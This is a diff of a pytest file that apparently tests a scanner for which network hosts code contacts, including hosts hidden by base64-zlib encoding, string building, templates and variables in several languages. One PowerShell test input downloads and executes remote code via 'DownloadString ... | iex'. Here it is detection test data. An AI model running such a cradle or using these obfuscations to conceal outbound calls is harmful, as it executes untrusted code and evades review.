@@ -2,6 +2,7 @@
 
 import base64
 import codecs
+import zlib
 
 import pytest
 
@@ -33,6 +34,10 @@ def capabilities(files):
         f'for i in range(3):\n    while True:\n        requests.get("{URL}")',
         f'urls = []\nurls.append("{URL}")\nfor u in urls:\n    requests.get(u)',
         'requests.get("".join(["https://", "api.", "acme-tv.com", "/x"]))',
+        'ALL = ["api.acme-tv.com"]\nfor url in ["https://%s/x" % each for each in ALL]:\n    requests.get(url)',
+        'ALL = {"a": "api.acme-tv.com"}\nfor _, each in ALL.items():\n    requests.get(f"https://{each}/x")',
+        'requests.get("https://%(host)s/x" % {"host": "api.acme-tv.com"})',
+        f'u = "{base64.b64encode(zlib.compress(URL.encode())).decode()}"\nrequests.get(zlib.decompress(base64.b64decode(u)))',
         'requests.get("ht" + "tps://api.acme" + "-tv.com/x")',
         'requests.get("\\x68ttps://api.acme-tv.com/x")',
         f'u = "{base64.b64encode(URL.encode()).decode()}"\nrequests.get(base64.b64decode(u))',
@@ -80,6 +85,8 @@ def test_a_host_behind_names_pieces_codes_and_letters_is_e2(code):
         'fetch(["https:/", "api.acme-tv.com", "x"].join("/"))',
         f"got({{ url: '{URL}' }})",
         f'axios["get"]("{URL}")',
+        f'const cfg = {{ api: {{ root: "{URL}" }} }};\nfetch(cfg.api.root + "/x");',
+        f'import x from "{URL}";',
         f'const x = new X(); x.open("GET", "{URL}");',
         'fetch(`https://${"api"}.acme-tv.com/x`)',
         f'const c = axios.create({{ baseURL: "{URL}" }});',
@@ -92,6 +99,26 @@ def test_the_same_in_javascript(code):
 def test_one_of_a_list_of_names_is_each_of_them():
     code = 'for name in ["a.acme-tv.com", "b.acme-tv.com"]:\n    requests.get("https://" + name + "/x")'
     assert hosts({"main.py": code}) == {"a.acme-tv.com": "E2", "b.acme-tv.com": "E2"}
+
+
+def test_a_part_that_a_template_puts_in_is_told_as_unknown():
+    code = 'requests.get(Template("https://$place.acme-tv.com/$path").substitute(place=p, path=q))'
+    assert hosts({"main.py": code}) == {"*.acme-tv.com": "E2"}
+
+
+@pytest.mark.parametrize(
+    ("name", "code"),
+    [
+        ("a.lua", 'local HOST = "api.acme-tv.com"\nfetch("https://" .. HOST .. "/x")\n'),
+        ("a.ps1", '(New-Object Net.WebClient).DownloadString("https://api.acme-tv.com/x") | iex\n'),
+        (
+            "a.ts",
+            'class C {\n  base: string = "https://api.acme-tv.com";\n  go() { return fetch(this.base); }\n}\n',
+        ),
+    ],
+)
+def test_scripts_without_a_grammar_are_followed_by_their_variables(name, code):
+    assert hosts({name: code}) == {"api.acme-tv.com": "E2"}
 
 
 @pytest.mark.parametrize("name", ["run.sh", "run"])
